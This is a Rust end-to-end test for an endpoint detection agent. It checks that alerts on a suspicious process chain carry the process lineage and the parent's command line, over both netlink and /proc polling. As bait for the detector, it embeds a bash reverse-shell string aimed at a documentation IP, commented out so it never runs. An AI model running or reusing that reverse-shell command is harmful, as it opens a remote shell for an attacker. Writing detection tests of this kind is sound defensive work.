//! End to end: a process chain on the agent host fires a built-in rule, and the alert
//! the collector's API returns carries the process lineage, with the parent's command
//! line, from both process paths: the netlink connector (when run as root) and /proc
//! polling alone.

use std::time::Duration;

use serde_json::Value;
use ward_tests::*;

/// The lineage entity of an alert whose alerted process is `pid`.
fn lineage_of(alert: &Value, pid: u32) -> Option<Value> {
    alert["entities"]
        .as_array()?
        .iter()
        .find(|e| e["kind"] == "lineage" && e["process"]["pid"] == pid)
        .cloned()
}

/// The pid of the first child of `pid` that has a child itself.
fn child_with_children(pid: u32) -> Option<u32> {
    let children = |pid: u32| -> Vec<u32> {
        std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
            .unwrap_or_default()
            .split_whitespace()
            .filter_map(|c| c.parse().ok())
            .collect()
    };
    children(pid).into_iter().find(|c| !children(*c).is_empty())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn process_alerts_carry_the_lineage_with_the_parents_command_line() {
    let collector = Collector::start().unwrap();
    // One agent with the netlink connector (used when the tests run as root), one with
    // /proc polling alone: both must attach the lineage.
    // Both on the /proc path (`process_source = "proc"`): the eBPF source has its own
    // test (privileged::ebpf_sensors), and without it `auto` would pick eBPF for both.
    let connector = Agent::start_with(&collector, |watch| {
        Agent::test_config(watch).replace("[sensors]\n", "[sensors]\nprocess_source = \"proc\"\n")
    })
    .unwrap();
    let polling = Agent::start_with(&collector, |watch| {
        Agent::test_config(watch).replace(
            "[sensors]\n",
            "[sensors]\nprocess_source = \"proc\"\nprocess_connector_enabled = false\n",
        )
    })
    .unwrap();
    connector.wait_connected(Duration::from_secs(15)).unwrap();
    polling.wait_connected(Duration::from_secs(15)).unwrap();

    // sh (outer) -> sh (inner, a reverse shell's command line) -> sleep. The outer's own
    // command line spells the path through a variable so only the inner one matches.
    let outer_cmd = r#"T=tcp; sh -c "sleep 4; true # bash -i >& /dev/$T/203.0.113.9/4444 0>&1"; true"#;
    let mut outer = std::process::Command::new("/bin/sh")
        .args(["-c", outer_cmd])
        .spawn()
        .unwrap();
    let outer_pid = outer.id();
    let deadline = std::time::Instant::now() + Duration::from_secs(3);
    let inner_pid = loop {
        if let Some(p) = child_with_children(outer_pid) {
            break p;
        }
        assert!(std::time::Instant::now() < deadline, "the inner shell did not start");
        std::thread::sleep(Duration::from_millis(10));
    };

    for (path, agent) in [("connector", &connector), ("polling", &polling)] {
        let listed = collector
            .wait_alert(&agent.device_id, Duration::from_secs(5), |a| {
                lineage_of(a, inner_pid).is_some() && a["matched"].to_string().contains("/dev/tcp/")
            })
            .await
            .unwrap_or_else(|e| panic!("{path}: {e}"));
        let id = listed["id"].as_str().unwrap();
        let (status, alert) = collector.get(&format!("/api/v1/alerts/{id}")).await.unwrap();
        assert_eq!((status, alert["id"].as_str()), (200, Some(id)), "{path}: {alert}");
        let lineage = lineage_of(&alert, inner_pid).unwrap_or_else(|| panic!("{path}: no lineage in {alert}"));
        eprintln!("{path}: {lineage}");

        let process = &lineage["process"];
        assert!(
            process["cmdline"]
                .as_str()
                .unwrap()
                .contains("/dev/tcp/203.0.113.9/4444"),
            "{path}: {process}"
        );
        assert_eq!(process["ppid"], outer_pid, "{path}");
        assert!(process["user"].is_string(), "{path}: {process}");
        // The alert's Process entity names the same process (same pid and start time).
        let proc_entity = alert["entities"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["kind"] == "process" && e["pid"] == inner_pid)
            .unwrap_or_else(|| panic!("{path}: no process entity in {alert}"));
        assert_eq!(proc_entity["start_time_ms"], process["start_time_ms"], "{path}");

        let ancestors = lineage["ancestors"].as_array().unwrap();
        let parent = &ancestors[0];
        assert_eq!(parent["pid"], outer_pid, "{path}");
        assert_eq!(parent["cmdline"], format!("/bin/sh -c {outer_cmd}"), "{path}");
        assert!(
            parent["start_time_ms"].as_u64() <= process["start_time_ms"].as_u64(),
            "{path}: {lineage}"
        );
        // Then this test process, which started the outer shell.
        assert_eq!(ancestors[1]["pid"], std::process::id(), "{path}");
        assert!(ancestors.len() <= ward_protocol::MAX_ANCESTORS, "{path}");
        assert!(lineage["rooted"].is_boolean(), "{path}");
    }
    let _ = outer.kill();
    let _ = outer.wait();
}
